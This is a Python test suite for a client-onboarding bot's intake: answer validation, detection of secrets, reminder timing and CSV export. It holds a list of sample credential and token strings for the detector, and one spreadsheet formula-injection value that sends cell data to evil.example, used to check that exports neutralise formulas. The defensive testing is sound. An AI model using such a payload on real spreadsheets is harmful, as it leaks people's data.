"""Intake rules on their own: answers checked, secrets refused, playbooks' questionnaires, and
the reminder loop on the right business days, capped and mutable; the export for the team."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest
import yaml
from sqlalchemy import select

from onboard.bot import intake_fields
from onboard.bot.erasure import erase_client
from onboard.bot.intake_cli import as_csv, export
from onboard.bot.playbook_files import PlaybookError, available, parse
from onboard.bot.playbooks import Playbook, Question
from onboard.storage import audit
from onboard.storage.models import Client, Intake, IntakeAnswer
from tests.conftest import BotFactory, FixedClock, People, Running
from tests.handlers.test_intake import (
    INTAKE_PLAYBOOK,
    PAGE_1,
    PAGE_2,
    PAGE_3,
    dm_of,
    enter_intake,
    fill,
    start,
    told,
)
from tests.handlers.test_journey import channel_of, say
from tests.handlers.test_new_client import onboard_client

MONDAY = dt.datetime(2026, 11, 23, 8, 0, tzinfo=dt.UTC)  # 08:00 in London


# -- answers --------------------------------------------------------------------------------------


def ask(kind: str, **extra: object) -> Question:
    return Question.model_validate({"key": "q", "label": "Q", "kind": kind, **extra})


@pytest.mark.parametrize(
    ("question", "raw", "value"),
    [
        (ask("text"), "  Acme   Rockets ", "Acme Rockets"),
        (ask("long_text"), "line one\nline two ", "line one\nline two"),
        # Brackets in a host are for IPv6 only: Python's URL parser raises on this one.
        (
            ask("long_text"),
            "We added you to https://[tenant].sharepoint.com as a guest.",
            "We added you to https://[tenant].sharepoint.com as a guest.",
        ),
        (ask("email"), "Ops@Acme.Example", "Ops@acme.example"),
        (ask("phone"), "020 7946 0958", "+442079460958"),  # the client's country (GB) applies
        (ask("phone"), "+1 (415) 555-2671", "+14155552671"),
        (ask("number", min=0, max=10), "7", 7),
        (ask("number", decimal=True), "2.5", 2.5),
        (ask("yes_no"), "no", False),
        (ask("multi_choice", options=["A", "B", "C"]), ["C", "A"], ["A", "C"]),
        (ask("country"), "NZ", "NZ"),
        (ask("timezone"), "Pacific/Auckland", "Pacific/Auckland"),
        (ask("date"), "2027-01-31", "2027-01-31"),
        (
            ask("file", max_files=2),
            [{"id": "F0ABC", "name": "a.pdf"}],
            [{"id": "F0ABC", "name": "a.pdf"}],
        ),
    ],
)
def test_good_answers_are_stored_in_one_canonical_form(
    question: Question, raw: object, value: object
) -> None:
    assert intake_fields.check(question, raw, country="GB") == intake_fields.Checked(value)


@pytest.mark.parametrize(
    ("question", "raw", "fix"),
    [
        (ask("text", required=True), "   ", "required"),
        (ask("text", max_length=5), "toolong", "under 5 characters"),
        (ask("email"), "a@", "name@company.com"),
        (ask("url"), "ftp://x.example", "https://"),
        (ask("url"), "https://[tenant].sharepoint.com", "https://"),
        (ask("phone"), "+44 12", "country code"),
        (ask("number", min=1, max=9), "10", "from 1 to 9"),
        (ask("number"), "ten", "Enter a number"),
        (ask("single_choice", options=["A"]), "B", "options"),
        (ask("user"), "not-a-user", "person"),
        (ask("file", max_files=1), [{"id": "F0A1"}, {"id": "F0A2"}], "at most 1"),
        (ask("country"), "Atlantis", "country"),
    ],
)
def test_bad_answers_say_how_to_fix_them(question: Question, raw: object, fix: str) -> None:
    checked = intake_fields.check(question, raw)
    assert checked.value is None and checked.error is not None and fix in checked.error


@pytest.mark.parametrize(
    "secret",
    [
        "AKIAIOSFODNN7EXAMPLE",
        "xoxb-123456789012-1234567890123-abcdefghijABCDEFGHIJklmn",
        "sk_live_4eC39HqLyjWDarjtT1zdp7dc",
        "-----BEGIN RSA PRIVATE KEY-----",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
        "password: hunter2!",
        "the admin password is Tr0ub4dor&3",
        "api_key=abc123def456ghi789",
        "wJalrXUtnFI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        "https://api.example.com/v1?access_token=abcd1234efgh5678",
    ],
)
def test_secrets_are_recognised(secret: str) -> None:
    assert intake_fields.looks_secret(f"here you go: {secret}")


@pytest.mark.parametrize(
    "ordinary",
    [
        "We are a 40 person company in London and Leeds",
        "our password is shared via 1Password",
        "Microsoft365-E5-licences-for-everyone, SAP-S4HANA-ERP-on-Azure-West-Europe",
        "https://docs.google.com/document/d/1aBcD3fGhIjKlMnOpQrStUvWxYz0123456789/edit",
        "I invited ads@aceintlmedia.example as a Standard user",
        "ISO27001-certified-since-2019",
    ],
)
def test_ordinary_answers_are_not_taken_for_secrets(ordinary: str) -> None:
    assert not intake_fields.looks_secret(ordinary)


def test_a_question_about_access_also_refuses_a_bare_password() -> None:
    access = ask("long_text", credential=True)
    assert "password manager" in (intake_fields.check(access, "Tr0ub4dor&3").error or "")
    assert intake_fields.check(ask("long_text"), "Tr0ub4dor&3").error is None


# -- playbooks ------------------------------------------------------------------------------------


def test_each_seed_playbook_carries_its_questionnaire_on_its_stage_and_gate() -> None:
    expected = {
        "agency": ("data-intake", "data-verified"),
        "digital-launch": ("client-intake", "intake-complete"),
        "managed-services": ("technical-discovery", "client-information-verified"),
        "sustainability-marketing": ("documentation-strategy", "assets-verified"),
        "standard": ("welcome-setup", "client-details-verified"),
    }
    for key, (stage, gate) in expected.items():
        questionnaire = available()[key].intake
        assert questionnaire is not None, key
        assert (questionnaire.stage, questionnaire.gate) == (stage, gate)
        assert gate in {g.key for g in available()[key].stage(stage).gates}
    agency = available()["agency"].intake
    assert agency is not None
    access = [q for p in agency.pages if p.key == "access" for q in p.questions]
    assert access and all(q.credential for q in access)  # the seed's "access credentials"
    titles = [p.title for p in available()["managed-services"].intake.pages]  # type: ignore[union-attr]
    assert titles[:6] == [
        "Business overview",
        "IT decision makers",
        "Current IT provider",
        "Compliance requirements",
        "Critical applications",
        "Users & locations",
    ]


def test_a_questionnaire_naming_a_missing_stage_gate_or_mapping_is_refused() -> None:
    data = yaml.safe_load(INTAKE_PLAYBOOK)
    data["intake"]["gate"] = "nope"
    with pytest.raises(PlaybookError, match="no gate 'nope' in stage 'intake'"):
        parse(yaml.safe_dump(data), "bad.yaml")
    data["intake"]["gate"] = "data-verified"
    data["intake"]["pages"][0]["questions"][0]["maps_to"] = "client.timezone"
    with pytest.raises(PlaybookError, match="needs a question of kind timezone"):
        parse(yaml.safe_dump(data), "bad.yaml")
    data["intake"]["pages"][0]["questions"][0].pop("maps_to")
    data["intake"]["pages"][1]["questions"][0]["key"] = "legal-name"
    with pytest.raises(PlaybookError, match="already used on page 0"):
        parse(yaml.safe_dump(data), "bad.yaml")


def test_a_snapshot_without_intake_still_loads() -> None:
    data = yaml.safe_load(INTAKE_PLAYBOOK)
    del data["intake"]
    assert Playbook.model_validate(data).intake is None


# -- reminders ------------------------------------------------------------------------------------


@pytest.fixture
def clock() -> FixedClock:
    return FixedClock(MONDAY)


@pytest.fixture
def waiting(start_bot: BotFactory, tmp_path: Path, people: People, clock: FixedClock) -> Running:
    """The intake posted on Monday 23 November 2026; nobody has touched it."""
    folder = tmp_path / "playbooks"
    folder.mkdir()
    (folder / "tiny-intake.yaml").write_text(INTAKE_PLAYBOOK)
    onboard = start_bot(clock=clock, playbook_dir=folder)
    onboard_client(onboard, people, playbook="tiny-intake")
    onboard.workspace.channels[channel_of(onboard)].members.append(people.client.id)
    enter_intake(onboard, people)
    return onboard


def sweep(onboard: Running, clock: FixedClock, day: dt.date, hour: int = 10) -> int:
    clock.now = dt.datetime(day.year, day.month, day.day, hour, tzinfo=dt.UTC)
    queued = onboard.bot.intake.sweep(clock.now)
    onboard.deliver()
    return queued


def reminders(onboard: Running, people: People) -> list[tuple[str, str]]:
    """(where, first words) of every intake reminder, oldest first."""
    found = []
    for channel in onboard.workspace.channels.values():
        for message in onboard.workspace.messages_in(channel.id):
            if "Reminder " in json.dumps(message.blocks):
                where = (
                    "channel"
                    if not channel.is_im
                    else next(
                        "client" if m == people.client.id else "am"
                        for m in channel.members
                        if m != onboard.workspace.bot_user_id
                    )
                )
                found.append((message.ts, where, message.text.split(":")[0]))
    return [(where, text) for _, where, text in sorted(found)]


def days(start: dt.date, count: int) -> list[dt.date]:
    return [start + dt.timedelta(days=n) for n in range(count)]


def test_reminders_climb_from_channel_to_contact_to_a_support_call_on_business_days_and_stop(
    waiting: Running, people: People, clock: FixedClock
) -> None:
    sent_on = {}
    for day in days(dt.date(2026, 11, 23), 21):
        sweep(waiting, clock, day, hour=8)  # before 09:00 in London: never
        if sweep(waiting, clock, day):
            sent_on[day.isoformat()] = sweep(waiting, clock, day) or "once"  # twice: nothing
    # Posted Mon 23: 2 business days → Wed 25 (channel), 4 → Fri 27 (the primary contact's
    # DM), 6 → Tue 1 Dec (the account manager: book a support call), then every 2 → Thu 3,
    # and the cap of 4 stops them.
    assert sent_on == {d: "once" for d in ("2026-11-25", "2026-11-27", "2026-12-01", "2026-12-03")}
    assert reminders(waiting, people) == [
        ("channel", "Reminder"),
        ("client", "Reminder"),
        ("am", "Book a support call"),
        ("channel", "Reminder"),
    ]


def test_reminders_respect_mute_and_a_save_restarts_the_wait(
    waiting: Running, people: People, clock: FixedClock
) -> None:
    clock.now = dt.datetime(2026, 11, 24, 10, tzinfo=dt.UTC)
    say(waiting, people.am.id, "mute reminders 3")  # until Fri 27
    for day in days(dt.date(2026, 11, 24), 4):
        assert sweep(waiting, clock, day) == 0
    # The client saves a page on Monday 30: the next nudge waits 2 business days from then.
    clock.now = dt.datetime(2026, 11, 30, 9, 30, tzinfo=dt.UTC)
    fill(waiting, people.client.id, start(waiting, people.client.id), PAGE_1)
    assert sweep(waiting, clock, dt.date(2026, 11, 30)) == 0
    assert sweep(waiting, clock, dt.date(2026, 12, 1)) == 0
    assert sweep(waiting, clock, dt.date(2026, 12, 2)) == 1
    with waiting.bot.db.transaction() as session:
        assert session.scalars(select(Intake.reminders_sent)).one() == 1


def test_the_sweep_leaves_out_clients_whose_intake_is_done(
    waiting: Running, clock: FixedClock
) -> None:
    # Each client it visits is a transaction (on SQLite, a turn of the write lock the acks
    # need), every fifteen minutes: a client with its intake verified has nothing to remind.
    commits = waiting.transactions()
    clock.now = dt.datetime(2026, 11, 24, 10, tzinfo=dt.UTC)
    waiting.bot.intake.sweep(clock.now)
    assert len(commits) == 2  # the list, then the client
    with waiting.bot.db.transaction() as session:
        session.scalars(select(Intake)).one().status = "verified"
    commits.clear()

    clock.now = dt.datetime(2026, 11, 25, 10, tzinfo=dt.UTC)  # the first reminder's day
    assert waiting.bot.intake.sweep(clock.now) == 0
    assert len(commits) == 1  # the list alone


def test_the_sweep_visits_a_client_without_an_intake_only_in_its_intake_stage(
    start_bot: BotFactory, tmp_path: Path, people: People, clock: FixedClock
) -> None:
    folder = tmp_path / "playbooks"
    folder.mkdir()
    (folder / "tiny-intake.yaml").write_text(INTAKE_PLAYBOOK)
    onboard = start_bot(clock=clock, playbook_dir=folder)
    onboard_client(onboard, people, playbook="tiny-intake")
    commits = onboard.transactions()
    clock.now = dt.datetime(2026, 11, 24, 10, tzinfo=dt.UTC)

    assert onboard.bot.intake.sweep(clock.now) == 0
    assert len(commits) == 1  # the list alone: at kickoff, no intake is due yet

    enter_intake(onboard, people)
    with onboard.bot.db.transaction() as session:  # as if the stage's start had been lost
        session.delete(session.scalars(select(Intake)).one())
    commits.clear()
    assert onboard.bot.intake.sweep(clock.now) == 1  # posted after all
    assert len(commits) == 2  # the list, then the client
    with onboard.bot.db.transaction() as session:
        assert session.scalars(select(Intake)).one().status == "open"


def test_an_erased_client_gets_no_intake_reminders(
    waiting: Running, people: People, clock: FixedClock
) -> None:
    with waiting.bot.db.transaction() as session:  # Tuesday: the client asks for erasure
        client = session.scalars(select(Client)).one()
        erase_client(session, client, audit.Cause.system(), reason="GDPR request", now=clock.now)
    assert sum(sweep(waiting, clock, day) for day in days(dt.date(2026, 11, 24), 21)) == 0
    assert reminders(waiting, people) == []

    # An erasure before intakes were closed by it left the intake open: the erasure itself
    # keeps the client out of the sweep's list.
    with waiting.bot.db.transaction() as session:
        session.scalars(select(Intake)).one().status = "open"
    commits = waiting.transactions()
    assert sum(sweep(waiting, clock, day) for day in days(dt.date(2026, 12, 15), 14)) == 0
    assert reminders(waiting, people) == []
    clock.now = dt.datetime(2026, 12, 30, 10, tzinfo=dt.UTC)
    commits.clear()
    waiting.bot.intake.sweep(clock.now)
    assert len(commits) == 1  # the list alone: the erased client is not even visited


@pytest.mark.parametrize(
    "team_says",
    [
        # The details were taken on a call: the team passes the gate itself.
        ["gate data-verified pass details taken on a call"],
        # ...and moves the journey on.
        ["gate data-verified pass details taken on a call", "advance"],
        # The journey goes back before the intake, its gate not passed.
        ["back kickoff the kickoff is to be held again"],
    ],
)
def test_intake_reminders_stop_once_its_gate_is_passed_or_the_journey_leaves_its_stage(
    waiting: Running, people: People, clock: FixedClock, team_says: list[str]
) -> None:
    clock.now = dt.datetime(2026, 11, 24, 10, tzinfo=dt.UTC)
    for words in team_says:
        say(waiting, people.am.id, words)
    with waiting.bot.db.transaction() as session:
        assert session.scalars(select(Intake.status)).one() == "open"  # nobody filled it
    assert sum(sweep(waiting, clock, day) for day in days(dt.date(2026, 11, 25), 21)) == 0
    assert reminders(waiting, people) == []


def test_jobs_run_intake_reminders_is_listed() -> None:
    from onboard.schedules.jobs import JOBS

    assert "intake-reminders" in JOBS


# -- export ---------------------------------------------------------------------------------------


def test_answers_export_as_json_and_csv(waiting: Running, people: People) -> None:
    fill(waiting, people.client.id, start(waiting, people.client.id), PAGE_1)
    exported = export(waiting.bot.db, "acme-rockets")
    assert exported["status"] == "open"
    website = next(a for a in exported["answers"] if a["question"] == "website")
    assert (website["value"], website["answered_by"]) == ("https://acme.example", people.client.id)
    rows = list(csv.DictReader(io.StringIO(as_csv(exported, waiting.bot.db))))
    assert len(rows) == len(exported["answers"])
    # Text to a spreadsheet, not a number that loses its + (nor a formula: below).
    assert next(r for r in rows if r["question"] == "phone")["value"] == "'+442079460958"


def test_an_answer_that_reads_as_a_formula_is_exported_as_text(
    waiting: Running, people: People
) -> None:
    # The client types the answers; the team opens the export in a spreadsheet.
    trap = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the brief")'
    fill(
        waiting, people.client.id, start(waiting, people.client.id), {**PAGE_1, "legal-name": trap}
    )
    rows = list(
        csv.DictReader(io.StringIO(as_csv(export(waiting.bot.db, "acme-rockets"), waiting.bot.db)))
    )
    assert next(r for r in rows if r["question"] == "legal-name")["value"] == "'" + trap


# -- a client placed in a region ------------------------------------------------------------------


@pytest.fixture
def in_england(start_bot: BotFactory, tmp_path: Path, people: People) -> Running:
    """A London client the account manager placed in England (for its bank holidays), now in
    its intake stage with the client's user in the shared channel."""
    folder = tmp_path / "playbooks"
    folder.mkdir()
    (folder / "tiny-intake.yaml").write_text(INTAKE_PLAYBOOK)
    onboard = start_bot(playbook_dir=folder)
    onboard_client(onboard, people, playbook="tiny-intake", country="GB-ENG")
    onboard.workspace.channels[channel_of(onboard)].members.append(people.client.id)
    enter_intake(onboard, people)
    return onboard


@pytest.mark.parametrize(
    ("answer", "placed"),
    [
        ("GB", "GB-ENG"),  # the same country: England stays, with its bank holidays
        ("IE", "IE"),  # another country: England cannot be right any more
    ],
)
def test_a_client_in_england_types_a_local_number_and_its_verified_country_keeps_the_region(
    in_england: Running, people: People, answer: str, placed: str
) -> None:
    carla, alice = people.client.id, people.am.id
    view_id = start(in_england, carla)
    # The intake asks for a country, not a region: typing "England" finds nothing there.
    options = in_england.driver.suggest(carla, view_id, "country", "England").json()["options"]
    assert options == []

    # A number without its +44 is read as a UK number, England being in the UK.
    page_1 = {**PAGE_1, "phone": "020 7946 0958", "country": answer}
    for values in (page_1, PAGE_2, PAGE_3):
        assert fill(in_england, carla, view_id, values).get("response_action") == "update"
    assert fill(in_england, carla, view_id, {})["view"]["callback_id"] == "intake_done"
    in_england.deliver()
    in_england.driver.click_button(alice, dm_of(in_england, alice), "intake_verify")
    assert "Data verified" in told(in_england, alice)
    in_england.deliver()

    with in_england.bot.db.transaction() as session:
        phone = session.scalars(
            select(IntakeAnswer.value).where(IntakeAnswer.question_key == "phone")
        ).one()
        country = session.scalars(select(Client.country)).one()
    assert (phone, country) == ("+442079460958", placed)
